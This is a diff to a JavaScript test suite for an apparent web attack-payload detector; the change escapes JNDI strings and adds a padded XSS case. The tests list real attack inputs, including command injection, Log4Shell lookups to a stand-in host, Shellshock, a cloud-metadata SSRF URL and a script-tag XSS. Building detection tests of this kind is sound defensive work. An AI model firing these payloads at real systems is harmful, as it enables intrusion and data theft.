@@ -36,7 +36,7 @@ describe('attack payloads', () => {
     ['command', '/ping?host=$(whoami)'],
     ['command', '/ping?host=|nslookup+x.example'],
     ['command', '/a?c=system(%27id%27)'],
-    ['template', '/a?x=${jndi:ldap://x.example/a}'],
+    ['template', '/a?x=$\x7Bjndi:ldap://x.example/a}'],
     ['template', '/a?x=$%7B$%7Blower:j%7Dndi:ldap://x%7D'],
     ['template', '/a?x={{7*7}}'],
     ['ssrf', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
@@ -72,7 +72,7 @@ describe('attack payloads', () => {
 
   it('a payload in the agent', () => {
     expect(names('/', '() { :;}; /bin/bash -c "id"')).toContain('command');
-    expect(names('/', '${jndi:ldap://x.example/a}')).toContain('template');
+    expect(names('/', '$\x7Bjndi:ldap://x.example/a}')).toContain('template');
   });
 
   it.each([
@@ -109,6 +109,10 @@ describe('attack payloads', () => {
     '/print(1)',
   ])('none in %s', (target) => {
     expect(names(target, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36; type app; id 7')).toEqual([]);
+  });
+
+  it('a payload behind padding', () => {
+    expect(names(`/a?pad=${'x'.repeat(8_000)}&q=%3Cscript%3Ealert(1)%3C/script%3E`)).toContain('xss');
   });
 
   it('takes unreadable requests for odd, but not connections that nobody used', () => {
